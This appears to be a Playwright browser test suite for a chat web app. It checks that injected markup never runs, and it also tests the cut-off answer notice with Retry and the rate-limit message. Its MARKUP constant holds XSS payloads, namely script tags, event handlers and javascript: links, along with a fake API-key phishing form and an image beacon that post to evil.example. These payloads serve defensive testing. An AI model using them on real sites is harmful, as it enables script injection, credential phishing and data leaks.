"""Faults as a person in a browser meets them (issue 5): markup in replies, in their own text
and in conversation titles never runs; a failed answer shows an inline notice and a toast, the
input stays usable and Retry answers the same message once; the rate limit says how long to
wait and gives the message back. Debian's Chromium, driven by Playwright, against
`python app.py` with the fake upstream (real HTTP) and the private redis-server."""

from __future__ import annotations

import json
import re
from urllib.parse import urlsplit

import pytest
import redis

from tests.app_server import AppServer
from tests.browser import (  # noqa: F401  (fixtures)
    BOT,
    INPUT,
    ChatPage,
    browser_fixture,
    context_factory,
    shot,
)
from tests.conftest import app_env
from tests.fake_upstream import cut, reply

DB = 8  # this module's database on the private redis-server


@pytest.fixture(scope="module")
def redis_db(redis_server) -> redis.Redis:
    url = redis_server.url.rsplit("/", 1)[0] + f"/{DB}"
    conn = redis.Redis.from_url(url)
    conn.flushdb()  # our private server's database
    yield conn
    conn.close()


@pytest.fixture(scope="module")
def app(redis_db, upstream):
    kwargs = redis_db.connection_pool.connection_kwargs
    env = app_env(
        upstream,
        f"redis://{kwargs['host']}:{kwargs['port']}/{DB}",
        RATE_LIMIT_PER_MINUTE="2",  # per browser: each test is a new browser
        RATE_LIMIT_PER_IP_PER_MINUTE="100",  # every test comes from 127.0.0.1
    )
    with AppServer(env) as server:
        yield server


@pytest.fixture
def chat(app, new_context, upstream) -> ChatPage:
    upstream.reset()
    page = new_context().new_page()
    page.dialogs = []  # any alert()/confirm() would be a script that ran
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    # Requests to other origins, and why those that failed did (the CSP blocks, not the DNS).
    page.remote, page.blocked = [], {}
    page.on("request", lambda req: page.remote.append(req.url) if "evil." in req.url else None)
    page.on("requestfailed", lambda req: page.blocked.update({req.url: req.failure}))
    return ChatPage(page, app.url).open()


def pwned(page) -> object:
    return page.evaluate("() => window.__pwned")


def stored_messages(conn: redis.Redis, first_text: str) -> list[dict]:
    """The stored messages of the conversation whose first message is `first_text`."""
    for key in conn.scan_iter("chat:conv:*:msgs"):
        messages = [json.loads(item) for item in conn.lrange(key, 0, -1)]
        if messages and messages[0].get("content") == first_text:
            return messages
    return []


MARKUP = (
    "Reply <script>window.__pwned = 'script'</script> "
    "<img src=x onerror=\"window.__pwned = 'img'\"> "
    "<svg onload=\"window.__pwned = 'svg'\"><circle r=4 /></svg> "
    "[md link](javascript:window.__pwned='md-link') "
    "<a href=\"javascript:window.__pwned = 'a'\">html link</a> "
    "<details open ontoggle=\"window.__pwned = 'toggle'\"><summary>s</summary>x</details> "
    "<iframe srcdoc=\"<script>parent.__pwned = 'srcdoc'</script>\"></iframe> "
    "<form action=\"javascript:window.__pwned='form'\"><button>send</button></form> "
    # Not scripts, but a prompt-injected answer could phish or leak with them:
    '<form action="https://evil.example/steal"><input name=key placeholder="Your API key">'
    '<button>Verify key</button></form> <img src="https://evil.example/leak.png?chat=secret"> '
    "and `<form>` in code stays code. end."
)


def test_markup_in_replies_user_text_and_titles_never_runs(chat, upstream, redis_db):
    user_text = "<img src=y onerror=\"window.__pwned = 'user'\"><script>alert('user')</script> hi"
    upstream.script(reply(MARKUP))
    chat.send(user_text)
    chat.wait_for_answer("end.")
    titles = chat.wait_titles("t => t.length === 1")
    for name in ("md link", "html link", "send", "Verify key"):
        target = chat.page.locator(BOT).get_by_text(name, exact=True)
        if target.count():
            target.first.click(no_wait_after=True)
    chat.page.wait_for_timeout(300)  # let any handler that wrongly exists fire
    assert pwned(chat.page) is None and chat.page.dialogs == []
    # No navigation: the page is where it was (its address only names the open conversation).
    assert chat.page.url.split("?")[0].rstrip("/") == chat.url.rstrip("/"), "no navigation"
    assert re.fullmatch(r"(c=[0-9a-f]{32})?", urlsplit(chat.page.url).query)
    dangerous = "script, iframe, svg[onload], [onerror], [ontoggle], form, input, button"
    assert chat.page.locator(f"#chatbot .prose :is({dangerous})").count() == 0
    assert chat.page.locator("#chatbot a[href^='javascript']").count() == 0
    # Form controls are shown as text, code as code; the remote image is never fetched (CSP).
    assert '<form action="https://evil.example/steal">' in chat.chat_text()
    # (a code span beside a link may carry an invisible word joiner after "<": markup_text.py)
    codes = chat.page.locator("#chatbot .prose code").all_inner_texts()
    assert [code.replace("\u2060", "") for code in codes].count("<form>") == 1
    for url in chat.page.remote:
        assert chat.page.blocked.get(url) == "csp", (url, chat.page.blocked)
    # The user's own text is shown as they typed it, not as markup; the title likewise.
    assert "hi" in chat.user_texts()[0]
    assert "onerror" in titles[0] or titles[0].endswith("hi")
    assert chat.page.locator("#conversations img, #conversations script").count() == 0
    shot(chat.page, "faults-markup-inert")
    # After a reload the stored conversation renders just as safely.
    chat.reload()
    chat.wait_for_answer("end.")
    chat.page.wait_for_timeout(300)
    assert pwned(chat.page) is None and chat.page.dialogs == []
    assert stored_messages(redis_db, user_text)[1]["content"] == MARKUP


def test_a_cut_answer_is_marked_incomplete_and_retry_answers_once(chat, upstream, redis_db):
    upstream.script(cut("Half an ans"), reply("The whole answer."))
    chat.send("Cut me off")
    chat.wait_for_answer("Incomplete")
    shown = chat.chat_text()
    assert "Half an ans" in shown and "cut off" in shown and "Retry" in shown
    assert "cut off" in chat.toast()
    assert "Traceback" not in chat.page.content()
    shot(chat.page, "faults-incomplete-notice")
    # The input is usable at once: a person can type while deciding what to do.
    chat.type("typing works")
    assert chat.input_text() == "typing works"
    chat.type("")
    chat.click("retry")
    chat.wait_for_answer("The whole answer.")
    chat.wait_idle()
    assert chat.user_texts() == ["Cut me off"], "the question is shown once"
    assert "Half an ans" not in chat.chat_text()
    stored = stored_messages(redis_db, "Cut me off")
    assert [(m["role"], m.get("status")) for m in stored] == [
        ("user", None),
        ("assistant", "complete"),
    ]
    sent = [m for m in upstream.requests[-1]["messages"] if m["role"] == "user"]
    assert len(sent) == 1, "the model got the question once"


def test_the_rate_limit_says_how_long_to_wait_and_gives_the_message_back(chat, upstream):
    for n in (1, 2):
        chat.send(f"message {n}")
        chat.wait_for_answer(f"Echo: message {n}")
    # Refused at once: the message may never show as a bubble (it is not stored), so this
    # waits for the notice, not for the bubble as chat.send() does.
    chat.type("message 3")
    chat.page.locator(INPUT).press("Enter")
    chat.wait_for_answer("too fast")
    notice = chat.chat_text()
    assert re.search(r"You are sending messages too fast: wait \d+ s and try again\.", notice)
    assert "too fast" in chat.toast()
    chat.wait_idle()
    assert chat.input_text() == "message 3", "the refused message is back in the box"
    assert len(upstream.requests) == 2, "the third message never reached the model"
    assert chat.user_texts()[:2] == ["message 1", "message 2"]
    shot(chat.page, "faults-rate-limited")
